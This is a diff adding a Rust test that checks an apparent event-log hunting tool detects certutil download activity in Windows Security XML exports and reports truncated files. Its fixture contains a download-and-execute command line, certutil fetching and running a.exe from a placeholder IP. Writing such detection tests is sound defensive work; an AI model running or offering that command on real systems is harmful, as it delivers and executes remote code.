@@ -146,6 +146,62 @@ fn windows_events_exported_as_json_meet_the_same_rules() {
     }
 }
 
+/// A `wevtutil qe Security /f:xml` export (and Event Viewer's "Save as XML", with its
+/// `<Events>` root) is hunted like the EVTX file it came from.
+#[test]
+fn windows_xml_exports_are_hunted() {
+    let dir = tempfile::tempdir().unwrap();
+    let event = |n: u32| {
+        format!(
+            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID><TimeCreated SystemTime='2024-03-10T11:00:0{n}.000Z'/><EventRecordID>{n}</EventRecordID><Channel>Security</Channel><Computer>xml{n}.corp.example</Computer></System><EventData><Data Name='SubjectUserName'>ann</Data><Data Name='NewProcessName'>C:\\Windows\\System32\\certutil.exe</Data><Data Name='CommandLine'>certutil.exe -urlcache -split -f http://203.0.113.66/a.exe a.exe &amp;&amp; a.exe</Data><Data Name='ParentProcessName'>C:\\Windows\\System32\\cmd.exe</Data></EventData></Event>"
+        )
+    };
+    std::fs::write(dir.path().join("wevtutil.xml"), event(1) + "\n" + &event(2)).unwrap();
+    std::fs::write(
+        dir.path().join("viewer.xml"),
+        format!(
+            "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<Events>\n{}\n</Events>\n",
+            event(3)
+        ),
+    )
+    .unwrap();
+    // A truncated export: its events before the cut are hunted, the cut is reported.
+    let cut = event(4);
+    std::fs::write(dir.path().join("cut.xml"), &cut[..cut.len() - 30]).unwrap();
+    let out = hunt(&[dir.path().to_str().unwrap(), "--format", "jsonl"]);
+    let stderr = text(&out.stderr);
+    let dets = jsonl(&out);
+    let certutil: BTreeSet<(String, String)> = dets
+        .iter()
+        .filter(|d| d["rule"] == "File Download With Certutil Or Bitsadmin")
+        .map(|d| {
+            (
+                d["computer"].as_str().unwrap().to_owned(),
+                d["timestamp"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        certutil,
+        (1..=3)
+            .map(|n| (
+                format!("xml{n}.corp.example"),
+                format!("2024-03-10T11:00:0{n}Z")
+            ))
+            .collect(),
+        "{dets:#?}"
+    );
+    assert!(
+        dets.iter()
+            .any(|d| d["details"].as_str().unwrap().contains("&& a.exe")),
+        "entities decoded: {dets:#?}"
+    );
+    assert!(
+        stderr.contains("cut.xml") && stderr.contains("ends inside"),
+        "{stderr}"
+    );
+}
+
 #[test]
 fn rules_dir_with_a_broken_rule() {
     let rules = data("rules");
